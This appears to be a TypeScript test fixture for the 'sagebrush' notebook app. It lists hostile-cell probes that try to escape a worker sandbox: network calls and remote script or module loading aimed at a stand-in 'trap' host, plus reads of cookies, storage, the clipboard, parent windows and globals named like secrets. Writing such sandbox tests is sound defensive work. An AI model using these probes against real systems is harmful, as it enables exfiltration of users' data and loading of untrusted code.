/**
 * What a hostile cell tries. Each is the body of an async function in the kernel's worker, with the trap's address as
 * `trap` (`host:port`); it is held off when it throws or returns nothing, and has got through when it returns a value.
 */
export const NETWORK: Readonly<Record<string, string>> = {
	fetch: 'return await fetch("http://" + trap + "/fetch")',
	'fetch without reading': 'return await fetch("http://" + trap + "/opaque", { mode: "no-cors" })',
	'fetch that outlives the page':
		'return await fetch("http://" + trap + "/keep", { method: "POST", body: "x", keepalive: true })',
	XMLHttpRequest:
		'const x = new XMLHttpRequest(); x.open("GET", "http://" + trap + "/xhr", false); x.send(); return x.status',
	WebSocket:
		'return await new Promise((yes, no) => { const w = new WebSocket("ws://" + trap + "/ws"); w.onopen = () => yes("open"); w.onerror = () => no(new Error("shut")) })',
	EventSource:
		'return await new Promise((yes, no) => { const e = new EventSource("http://" + trap + "/events"); e.onopen = () => yes("open"); e.onerror = () => { e.close(); no(new Error("shut")) } })',
	WebTransport: 'const t = new WebTransport("https://" + trap + "/transport"); await t.ready; return "ready"',
	WebRTC:
		'const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + trap }] }); c.createDataChannel("x"); await c.setLocalDescription(); return "offered"',
	sendBeacon: 'return navigator.sendBeacon("http://" + trap + "/beacon", "x")',
	importScripts: 'importScripts("http://" + trap + "/script.js"); return "loaded"',
	'import by address': 'return await import("http://" + trap + "/module.js")',
	'import behind the compiler':
		'return await (0, eval)("import(" + JSON.stringify("http://" + trap + "/eval.js") + ")")',
	'a worker by address':
		'return await new Promise((yes, no) => { const w = new Worker("http://" + trap + "/worker.js"); w.onmessage = yes; w.onerror = () => no(new Error("shut")); setTimeout(() => no(new Error("silent")), 500) })',
	'a worker from data':
		'return await new Promise((yes, no) => { const w = new Worker("data:text/javascript,postMessage(1)"); w.onmessage = yes; w.onerror = () => no(new Error("shut")); setTimeout(() => no(new Error("silent")), 500) })',
	'a worker of its own that fetches':
		'const s = "fetch(\'http://" + trap + "/nested\').then(() => postMessage(1), () => postMessage(0))"; return await new Promise((yes) => { new Worker(URL.createObjectURL(new Blob([s]))).onmessage = (e) => yes(e.data || undefined); setTimeout(yes, 1000) })',
	'a worker of its own that imports':
		'const s = "try { importScripts(\'http://" + trap + "/nested.js\'); postMessage(1) } catch { postMessage(0) }"; return await new Promise((yes) => { new Worker(URL.createObjectURL(new Blob([s]))).onmessage = (e) => yes(e.data || undefined); setTimeout(yes, 1000) })',
	'a shared worker': 'new SharedWorker("http://" + trap + "/shared.js"); return "made"',
	'a font': 'await new FontFace("f", "url(http://" + trap + "/font.woff2)").load(); return "loaded"',
	'a canvas filter':
		'const c = new OffscreenCanvas(9, 9).getContext("2d"); c.filter = "url(http://" + trap + "/filter.svg#f)"; c.fillRect(0, 0, 9, 9); return undefined',
	'streaming WebAssembly': 'return await WebAssembly.compileStreaming(fetch("http://" + trap + "/wasm"))',
	'a cached request':
		'const c = await caches.open("x"); await c.add("http://" + trap + "/cache"); return "added"',
	'a background fetch': 'return await registration.backgroundFetch.fetch("x", ["http://" + trap + "/bg"])',
	'the page of this site': 'return await fetch(page)',
	'the page of this site, unread': 'return await fetch(page, { mode: "no-cors" })',
	'a script of this site': 'importScripts(page); return "loaded"'
};

/** Ways to the app's storage, to its other pages and to the page around. */
export const REACH: Readonly<Record<string, string>> = {
	IndexedDB:
		'return await new Promise((yes, no) => { const r = indexedDB.open("sagebrush"); r.onsuccess = () => yes("open"); r.onerror = () => no(r.error) })',
	'the list of databases': 'return (await indexedDB.databases()).length || undefined',
	localStorage: 'return localStorage.length + 1',
	sessionStorage: 'return sessionStorage.length + 1',
	cookies: 'return document.cookie + "."',
	'the cookie store': 'return await cookieStore.getAll()',
	caches: 'return await caches.keys()',
	'a cache': 'return await caches.open("x")',
	'the private file system': 'return await navigator.storage.getDirectory()',
	'storage estimates': 'return (await navigator.storage.estimate()).usage || undefined',
	'a service worker': 'return await navigator.serviceWorker.register("/sw.js")',
	'the service worker of the app': 'return await navigator.serviceWorker.getRegistration()',
	locks: 'return (await navigator.locks.query()).held.length || undefined',
	'a channel to the app':
		'const heard = []; for (const name of ["sagebrush", "documents", "presenter", "notebook"]) { const c = new BroadcastChannel(name); c.onmessage = (e) => heard.push(e.data); c.postMessage("hello") } await new Promise((r) => setTimeout(r, 300)); return heard.length || undefined',
	'the window': 'return typeof window === "undefined" ? undefined : window',
	'the document': 'return document',
	'the parent': 'return parent',
	'the top': 'return top',
	'an opener': 'return opener',
	'another window': 'return open("http://" + trap + "/window")',
	'another address':
		'self.location.href = "http://" + trap + "/away"; return self.location.href.includes(trap) || undefined',
	'a name': 'return origin === "null" ? undefined : origin',
	'a secret in the globals':
		'return Object.getOwnPropertyNames(globalThis).filter((n) => /token|secret|region|storage|peer|port/i.test(n) && typeof globalThis[n] !== "function" && globalThis[n] !== undefined && !/^on/.test(n)).join() || undefined',
	notifications: 'return (await Notification.requestPermission()) === "granted" || undefined',
	geolocation: 'return navigator.geolocation',
	'the clipboard': 'return await navigator.clipboard.readText()',
	'a file of the disk': 'return await showOpenFilePicker()',
	USB: 'return (await navigator.usb.getDevices()).length || undefined'
};

/** A cell that tries all of them and lists those that got through. */
export function attempts(all: Readonly<Record<string, string>>, trap: string, page: string): string {
	const tries = Object.entries(all).map(([name, body]) => `${JSON.stringify(name)}: async () => { ${body} }`);
	return `
const trap = ${JSON.stringify(trap)}, page = ${JSON.stringify(page)};
const tries = {\n${tries.join(',\n')}\n};
const through = [];
await Promise.all(Object.entries(tries).map(async ([name, attempt]) => {
	try {
		const late = new Promise((_, no) => setTimeout(() => no(new Error('late')), 3000));
		const got = await Promise.race([attempt(), late]);
		if (got !== undefined) through.push(name + ' (' + String(got).slice(0, 60) + ')');
	} catch {}
}));
'through: ' + (through.sort().join('; ') || 'nothing')`;
}

/** A cell that shows a bundle of its own making. */
export function shows(bundle: Readonly<Record<string, unknown>>): string {
	const data = JSON.stringify({ 'text/plain': 'hostile output', ...bundle });
	return `({ [Symbol.for('sagebrush.display')]: () => JSON.parse(${JSON.stringify(data)}) })`;
}
